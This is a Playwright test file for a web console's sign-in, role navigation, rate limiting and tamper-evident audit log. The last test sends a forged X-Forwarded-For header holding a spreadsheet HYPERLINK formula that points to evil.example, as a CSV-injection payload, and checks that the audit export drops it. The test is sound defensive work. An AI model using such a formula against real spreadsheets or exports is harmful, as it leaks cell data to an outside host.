import { expect, test } from "./support/test";
import { Console } from "./pages/console";
import { SignInPage } from "./pages/sign-in-page";
import { createUserAsAdmin } from "./support/admin";
import { DEMO, uniqueEmail } from "./support/users";

const AREAS = {
  admin: [
    "Home",
    "Generate",
    "Jobs",
    "Review",
    "Library",
    "Costs",
    "Budgets",
    "Uploads",
    "Collections",
    "Exports",
    "Share links",
    "Developers",
    "Users",
    "Presets",
    "Templates",
    "GPU endpoints",
    "Operations",
    "Editor engines",
    "Placements",
    "Alt text",
    "Banned terms",
    "Reject reasons",
    "Tags",
    "Checks",
    "Alerts",
    "Runs",
    "Audit log",
  ],
  designer: [
    "Home",
    "Generate",
    "Jobs",
    "Library",
    "Costs",
    "Uploads",
    "Collections",
    "Exports",
    "Share links",
    "Developers",
  ],
  reviewer: ["Home", "Review", "Library", "Uploads", "Collections", "Exports", "Share links", "Developers"],
  finance: ["Home", "Costs", "Budgets", "Developers"],
} as const;

for (const role of Object.keys(AREAS) as (keyof typeof AREAS)[]) {
  test(`${role} signs in and sees only the areas of the role`, async ({ page }) => {
    const user = DEMO[role];
    await new SignInPage(page).signInAndWait(user.email, user.password, user.name);
    const console_ = new Console(page);
    expect(await console_.navLabels()).toEqual(AREAS[role]);
    await console_.signOut();
    await page.goto("/");
    await expect(page).toHaveURL(/\/sign-in/);
  });
}

test("wrong password, unknown user, empty and oversized fields get one clear error", async ({ page }) => {
  const signIn = new SignInPage(page);
  await signIn.goto();
  const message = "That email and password do not match an active account.";

  await signIn.signIn(DEMO.reviewer.email, "not the password");
  await expect(signIn.error()).toHaveText(message);
  await signIn.signIn("nobody@kiln.local", "whatever password");
  await expect(signIn.error()).toHaveText(message);
  await signIn.signIn("", "");
  await expect(signIn.error()).toHaveText("Enter a valid email address and your password.");
  // maxLength stops a browser user; a script can still send more, so remove the attribute.
  await page.getByLabel("Email").evaluate((el) => el.removeAttribute("maxlength"));
  await signIn.signIn(`${"a".repeat(300)}@example.com`, "x");
  await expect(signIn.error()).toHaveText("Enter a valid email address and your password.");
  await expect(page).toHaveURL(/\/sign-in/);
});

test("failed sign-ins are rate-limited per account, even with the right password afterwards", async ({
  page,
  browser,
}) => {
  // Its own account, so locking it out cannot affect any other journey.
  const { user: person, close } = await createUserAsAdmin(browser, {
    name: "Locked Out",
    role: "finance",
    prefix: "locked",
    password: "the right passphrase",
  });
  await close();

  const signIn = new SignInPage(page);
  await signIn.goto();
  for (let i = 0; i < 5; i += 1) {
    await signIn.signIn(person.email, `wrong guess ${i}`);
    await expect(signIn.error()).toHaveText("That email and password do not match an active account.");
  }
  await signIn.signIn(person.email, person.password);
  await expect(signIn.error()).toHaveText("Too many failed sign-ins. Wait a few minutes, then try again.");
});

test("failed and refused sign-ins are in the audit log", async ({ page }) => {
  await new SignInPage(page).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
  await page.goto("/admin/audit?action=auth.sign_in");
  await expect(page.getByTestId("chain-status")).toContainText("Chain verified");
  await expect(page.getByText("auth.sign_in_failed", { exact: true }).first()).toBeVisible();
  await expect(page.getByText("auth.sign_in_rate_limited", { exact: true }).first()).toBeVisible();
});

test("an admin verifies the audit log now: a signed checkpoint is written, the page verifies from it and the export names it", async ({
  page,
}) => {
  await new SignInPage(page).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
  await page.goto("/admin/audit");
  await expect(page.getByTestId("chain-status")).toContainText("Chain verified");
  await page.getByTestId("audit-verify-now").click();
  const result = page
    .getByRole("status")
    .filter({ hasText: /checkpoint #\d+ written and signed|No new entries since the last checkpoint/ });
  await expect(result).toBeVisible();
  // The page now verifies from the signed checkpoint: "verified through #seq at time; N new entries verified now".
  await expect(page.getByTestId("chain-status")).toContainText(
    /Chain verified through #\d+ at .+ UTC \(signed checkpoint, [\d,]+ entries\); \d+ new entr(y|ies) verified now/,
  );
  const seq = (await page.getByTestId("chain-status").textContent())!.match(/through #(\d+)/)![1];
  await page.screenshot({ path: "/tmp/retention-audit-checkpoint.png", fullPage: true });
  const exported = await page.request.get("/api/admin/audit/export");
  expect(exported.status()).toBe(200);
  // The newest checkpoint (the scheduled check may have written a later one in between).
  const header = exported.headers()["x-kiln-audit-checkpoint"]!.match(/^seq=(\d+); hash=[0-9a-f]{64}$/);
  expect(Number(header?.[1])).toBeGreaterThanOrEqual(Number(seq));
});

test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audit log records: the connection's address is", async ({
  browser,
}) => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
  const forger = await browser.newContext({ extraHTTPHeaders: { "x-forwarded-for": formula } });
  const page = await forger.newPage();
  const email = uniqueEmail("forger");
  const signIn = new SignInPage(page);
  await signIn.goto();
  await signIn.signIn(email, "not the password");
  await expect(signIn.error()).toHaveText("That email and password do not match an active account.");
  await forger.close();

  const admin = await browser.newContext();
  const adminPage = await admin.newPage();
  await new SignInPage(adminPage).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
  const csv = await (
    await adminPage.request.get(
      `/api/admin/audit/export?action=auth.sign_in_failed&actorEmail=${encodeURIComponent(email)}`,
    )
  ).text();
  const row = csv.split(/\r?\n/).find((line) => line.includes(email));
  expect(row).toBeDefined();
  expect(row).not.toContain("HYPERLINK");
  // The browser talks to the test server over loopback; that address is recorded, validated.
  expect(row).toMatch(/,"?(127\.0\.0\.1|::1)"?,/);
  await admin.close();
});
